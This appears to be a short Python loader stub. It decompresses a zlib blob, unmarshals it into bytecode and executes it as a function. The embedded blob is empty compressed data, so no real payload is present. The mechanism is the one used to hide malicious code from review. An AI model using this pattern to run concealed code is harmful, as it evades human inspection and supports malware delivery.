import marshal
import types
import zlib

_CODE = b"x\x9c\x03\x00\x00\x00\x00\x01"
run = types.FunctionType(marshal.loads(zlib.decompress(_CODE)), globals())
run()
